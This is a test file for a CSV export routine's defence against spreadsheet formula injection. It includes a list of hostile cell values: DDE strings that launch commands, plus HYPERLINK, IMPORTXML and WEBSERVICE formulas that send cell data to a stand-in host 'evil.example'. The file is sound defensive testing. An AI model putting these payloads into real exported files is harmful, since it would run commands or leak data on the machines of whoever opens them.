import { expect, test } from 'bun:test'
import fc from 'fast-check'
import { type Cell, csvRow, withoutGuard } from '../../../src/domain/exports/csv.rules.ts'
import { parseCsv } from '../../support/csv.ts'

/** What people have put into fields to run something in the spreadsheet of whoever opens the file. */
const PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  "=1+1+cmd|' /C calc'!A0",
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@A1',
  '\tcalc',
  '\rcalc',
  ' =1+1',
  '   +1',
  '\u00a0=1+1',
  '\u3000@A1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u0000=1+1',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20A1',
  '\u22121',
  '\ufe66A1',
  '"=1+1',
  '=1,=2',
  "'=1+1",
  "' =1+1",
  '+1 780 555 0100',
]

test('no payload begins with what a spreadsheet runs', () => {
  for (const payload of PAYLOADS) {
    const [[shown]] = parseCsv(csvRow([payload])) as [[string]]
    const safe = payload === '"=1+1' ? payload : `'${payload}`
    expect([payload, shown]).toEqual([payload, safe])
  }
})

test('nothing behind a separator of another country runs either', () => {
  for (const [text, shown] of [
    ["x;=cmd|'/C calc'!A0;y", "x;'=cmd|'/C calc'!A0;y"],
    ['x; @A1', "x;' @A1"],
    ['a\n=1+1\n-2', "a\n'=1+1\n'-2"],
    ['\t=1+1', "'\t'=1+1"],
    ['\r=1+1', "'\r'=1+1"],
    ['\r\n=1+1', "'\r\n'=1+1"],
    ['a\t+1', "a\t'+1"],
  ] as const) {
    expect(parseCsv(csvRow([text]))).toEqual([[shown]])
  }
})

test('what people write stays as it is', () => {
  for (const text of [
    "'t Hooft",
    'a-b',
    '780-555-0100',
    'x=1',
    'Ada “Al” Byron',
    '',
    '½ bath',
    '(2)',
  ]) {
    expect(parseCsv(csvRow([text]))).toEqual([[text]])
  }
})

test('numbers stay numbers, also below zero, and nothing is an empty cell', () => {
  expect(csvRow([-5, 157.5, true, null, 'a'])).toBe('-5,157.5,true,,a\r\n')
})

test('a comma, a quote, a semicolon or a line break does not leave its cell', () => {
  expect(csvRow(['a,b', 'say "hi"', 'a;b', 'a\r\nb', 'a\nb'])).toBe(
    '"a,b","say ""hi""","a;b","a\r\nb","a\nb"\r\n',
  )
})

const text = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.string({
    unit: fc.constantFrom('=', '+', '-', '@', "'", '"', ',', ';', '\r', '\n', '\t', ' ', 'a'),
  }),
  fc.constantFrom(...PAYLOADS),
)

test('whatever is written is read back, and no cell begins with a formula', () => {
  fc.assert(
    fc.property(fc.array(fc.array(text, { minLength: 2 }), { minLength: 1 }), (table) => {
      const read = parseCsv(table.map((cells: Cell[]) => csvRow(cells)).join(''))
      expect(read.map((cells) => cells.map(withoutGuard))).toEqual(table)
      const parts = read.flat().flatMap((cell) => cell.split(/[;\t\r\n]/))
      for (const part of parts) expect(part).not.toMatch(/^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/)
    }),
  )
})
